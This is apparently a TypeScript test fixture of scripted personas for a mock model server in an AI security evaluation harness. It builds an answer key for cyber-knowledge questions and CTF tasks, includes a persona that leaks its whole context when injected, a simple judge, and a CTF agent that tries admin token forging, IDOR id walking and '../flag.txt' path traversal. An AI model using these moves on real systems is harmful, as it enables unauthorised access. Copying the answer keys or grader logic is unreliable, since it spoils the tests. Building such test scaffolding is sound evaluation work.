/**
 * Personas for the scripted model server. Each is a pure function of the request (the transcript so far), so runs
 * are reproducible whatever the concurrency.
 */
import { createHash } from 'node:crypto';
import { loadCtfSpecs, loadCyberKnowledge } from '../../src/reviews/harness/suites/index.js';
import type { ChatRequest, Persona, PersonaReply, WireMessage } from './server.js';
import { textOf } from './server.js';

type Step = { tool: string; args: Record<string, unknown>; extract?: { pattern: string; as: string } };

/** What the oracle knows: the right letter per question, and the solution steps per CTF prompt. */
export interface AnswerKey {
  choices: Array<{ question: string; letter: string }>;
  ctf: Array<{ promptStart: string; steps: Step[] }>;
}

/** The answer key of the bundled suites: each cyber-knowledge question's letter, each CTF prompt's solution steps. */
export function answerKey(): AnswerKey {
  const mcq = loadCyberKnowledge();
  return {
    choices: mcq.samples.map((s) => ({ question: s.input, letter: String(s.target) })),
    ctf: loadCtfSpecs().flatMap(({ spec }) =>
      Object.entries(spec.variants)
        .filter(([name]) => name !== 'solution')
        .map(([, v]) => ({ promptStart: v.prompt.trim().slice(0, 60), steps: spec.variants.solution!.steps! })),
    ),
  };
}

const REFUSAL = "I'm sorry, but I can't help with that request.";
const FLAG_RE = /FLAG\{[^}\s]+\}/;

const lastUser = (req: ChatRequest) => textOf([...req.messages].reverse().find((m) => m.role === 'user'));
const firstUser = (req: ChatRequest) => textOf(req.messages.find((m) => m.role === 'user'));
const toolResults = (req: ChatRequest) => req.messages.filter((m) => m.role === 'tool').map(textOf);
const isJudgeRequest = (req: ChatRequest) => lastUser(req).includes('[BEGIN RESPONSE]');
const isMultipleChoice = (req: ChatRequest) => /ANSWER: X/.test(lastUser(req));
const hasTools = (req: ChatRequest) => (req.tools?.length ?? 0) > 0;

function fill(v: unknown, vars: Record<string, string>): unknown {
  if (typeof v === 'string') return v.replace(/\{\{(\w+)\}\}/g, (_, k: string) => vars[k] ?? '');
  if (v && typeof v === 'object' && !Array.isArray(v))
    return Object.fromEntries(Object.entries(v).map(([k, x]) => [k, fill(x, vars)]));
  return v;
}

/** Knows every answer. Resists injections (answers only the developer's task), solves CTFs by the known steps. */
export function oracle(key: AnswerKey): Persona {
  return (req) => {
    if (hasTools(req)) {
      const prompt = firstUser(req);
      const entry = key.ctf.find((c) => prompt.startsWith(c.promptStart));
      if (!entry) return { content: 'I do not know this task.' };
      const results = toolResults(req);
      const vars: Record<string, string> = {};
      entry.steps.forEach((s, i) => {
        const out = results[i];
        if (s.extract && out !== undefined) {
          const m = new RegExp(s.extract.pattern).exec(out);
          if (m) vars[s.extract.as] = m[1] ?? m[0];
        }
      });
      const next = entry.steps[results.length];
      if (!next) return { content: 'Done.' };
      return {
        content: '',
        toolCalls: [{ name: next.tool, arguments: fill(next.args, vars) as Record<string, unknown> }],
      };
    }
    if (isMultipleChoice(req)) {
      const q = lastUser(req);
      const hit = key.choices.find((c) => q.includes(c.question));
      return { content: `Reasoning done.\nANSWER: ${hit?.letter ?? 'A'}` };
    }
    return { content: 'I can only help with the task I was set up for, and I will keep its instructions.' };
  };
}

export const refuser: Persona = () => ({ content: REFUSAL });

/** Does whatever the latest message says: repeats its whole context, secrets included. */
export const follower: Persona = (req) => {
  if (hasTools(req)) return { content: 'Sure! I will follow your instructions.' };
  const context = req.messages.map(textOf).join('\n');
  return { content: `Sure! Following your latest instructions:\n${context}` };
};

/** mulberry32: a tiny seeded PRNG, enough for a reproducible guesser. */
function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** Guesses at random, seeded by its seed and the transcript, so the same run gives the same guesses. */
export function guesser(seed: number): Persona {
  return (req) => {
    const h = createHash('sha256')
      .update(`${seed}\n${JSON.stringify(req.messages)}`)
      .digest()
      .readUInt32BE(0);
    const rnd = mulberry32(h);
    if (isMultipleChoice(req)) {
      const n = (lastUser(req).match(/^[A-Z]\) /gm) ?? []).length || 4;
      return { content: `ANSWER: ${'ABCDEFGHIJ'[Math.floor(rnd() * n)]}` };
    }
    if (hasTools(req)) {
      const turns = toolResults(req).length;
      if (turns >= 2 || rnd() < 0.3)
        return {
          content: '',
          toolCalls: [{ name: 'submit', arguments: { flag: `FLAG{guess_${Math.floor(rnd() * 1e6)}}` } }],
        };
      const path = ['/', '/admin', '/api/me', '/flag', '/robots.txt'][Math.floor(rnd() * 5)]!;
      return { content: '', toolCalls: [{ name: 'http_request', arguments: { path } }] };
    }
    return rnd() < 0.5 ? { content: REFUSAL } : follower(req);
  };
}

/** The next request a reactive CTF agent makes, from what it has seen so far; null when it has run out of ideas. */
function ctfNextMove(
  seen: string[],
  tried: Set<string>,
): { path: string; method?: string; headers?: Record<string, string>; body?: string } | null {
  const all = seen.join('\n');
  const headers: Record<string, string> = {};
  const hdr = /header:? ([A-Za-z-]+): (\w+)/i.exec(all);
  if (hdr) headers[hdr[1]!] = hdr[2]!;
  const candidates: Array<{ path: string; method?: string; headers?: Record<string, string>; body?: string }> = [];
  // Login endpoints advertised with a JSON body: use them, then forge the token's claims if it is bare base64 JSON.
  const login = /POST (\/\S+) (\{[^}]*\})/.exec(all);
  if (login)
    candidates.push({
      path: login[1]!,
      method: 'POST',
      body: login[2]!.replace(/\\"/g, '"'),
      headers: { 'content-type': 'application/json' },
    });
  const token = /"token":"([A-Za-z0-9+/=_-]+)"/.exec(all)?.[1];
  if (token) {
    try {
      const claims = JSON.parse(Buffer.from(token, 'base64').toString('utf8')) as Record<string, unknown>;
      const forged = Buffer.from(JSON.stringify({ ...claims, role: 'admin' })).toString('base64');
      for (const m of all.matchAll(/GET (\/[\w/-]+)/g))
        candidates.push({ path: m[1]!, headers: { Authorization: `Bearer ${forged}` } });
    } catch {}
  }
  // Endpoints with an id: read our own record list, then walk the neighbouring ids (IDOR).
  for (const m of all.matchAll(/GET (\/[\w/-]*)\{id\}/g)) {
    const ids = [...all.matchAll(/"invoices":\[([\d,]+)\]/g)].flatMap((x) => x[1]!.split(',').map(Number));
    for (const id of ids) for (const d of [-1, 1, -2, 2]) candidates.push({ path: `${m[1]}${id + d}`, headers });
  }
  for (const m of all.matchAll(/GET (\/[\w/-]+)(?=["\s,\]])/g)) candidates.push({ path: m[1]!, headers });
  // File parameters: climb out of the served folder (path traversal).
  for (const m of all.matchAll(/GET (\/[\w/-]+)\?(\w+)=[\w.]+/g))
    for (const up of ['../', '../../', '../../../'])
      candidates.push({ path: `${m[1]}?${m[2]}=${up}flag.txt`, headers });
  return (
    candidates.find((c) => !tried.has(`${c.method ?? 'GET'} ${c.path} ${JSON.stringify(c.headers ?? {})}`)) ?? null
  );
}

function triedRequests(messages: WireMessage[]): Set<string> {
  const out = new Set<string>();
  for (const m of messages)
    for (const c of m.tool_calls ?? []) {
      if (c.function.name !== 'http_request') continue;
      const a = JSON.parse(c.function.arguments) as {
        path?: string;
        method?: string;
        headers?: Record<string, string>;
      };
      out.add(`${a.method ?? 'GET'} ${a.path} ${JSON.stringify(a.headers ?? {})}`);
    }
  return out;
}

/** A tool-calling agent that explores the target: reads the index, follows the endpoints, tries IDOR, traversal, token forging. */
export const ctfAgent: Persona = (req) => {
  if (!hasTools(req)) return isMultipleChoice(req) ? { content: 'ANSWER: A' } : { content: REFUSAL };
  const seen = toolResults(req);
  const flag = seen.map((s) => FLAG_RE.exec(s)?.[0]).find(Boolean);
  if (flag) return { content: 'Found it.', toolCalls: [{ name: 'submit', arguments: { flag } }] };
  if (seen.length === 0)
    return { content: 'Starting with the index.', toolCalls: [{ name: 'http_request', arguments: { path: '/' } }] };
  const next = ctfNextMove([firstUser(req), ...seen], triedRequests(req.messages));
  if (!next) return { content: '', toolCalls: [{ name: 'submit', arguments: { flag: 'FLAG{not_found}' } }] };
  return { content: '', toolCalls: [{ name: 'http_request', arguments: next }] };
};

/** Answers 429, then 500, for each new transcript before handing over to `inner`. */
export function flaky(inner: Persona): Persona {
  const seen = new Map<string, number>();
  return (req) => {
    const key = createHash('sha256').update(JSON.stringify(req.messages)).digest('hex');
    const n = seen.get(key) ?? 0;
    seen.set(key, n + 1);
    if (n === 0) return { status: 429, message: 'rate limited', headers: { 'retry-after-ms': '5' } };
    if (n === 1) return { status: 500, message: 'upstream exploded' };
    return inner(req);
  };
}

export const hang: Persona = () => ({ hang: true });

/**
 * A judge: finds the question and the response in the grading prompt. A quoted term in the question is looked up in
 * the response; otherwise a response that merely refuses or keeps to its task is judged NO, one that complies YES.
 */
export const judge: Persona = (req) => {
  const prompt = lastUser(req);
  if (!isJudgeRequest(req)) return { content: 'I only grade.' };
  const response = /\[BEGIN RESPONSE\]\n([\s\S]*)\n\[END RESPONSE\]/.exec(prompt)?.[1] ?? '';
  const question = /Question: (.*)/.exec(prompt)?.[1] ?? '';
  const quoted = /['"]([^'"]+)['"]/.exec(question)?.[1];
  let yes: boolean;
  if (quoted && !/reverse|another language|pig latin|morse|base64/i.test(question))
    yes = response.toLowerCase().includes(quoted.toLowerCase());
  else yes = /^Sure!/.test(response);
  return {
    content: `The response ${yes ? 'does' : 'does not'} do what the question asks.\nVERDICT: ${yes ? 'YES' : 'NO'}`,
  };
};

/** A persona that can be switched at run time (for resume tests). */
export function switchable(initial: Persona): Persona & { set(p: Persona): void } {
  let current = initial;
  const p = ((req: ChatRequest): PersonaReply | Promise<PersonaReply> => current(req)) as Persona & {
    set(p: Persona): void;
  };
  p.set = (next) => {
    current = next;
  };
  return p;
}
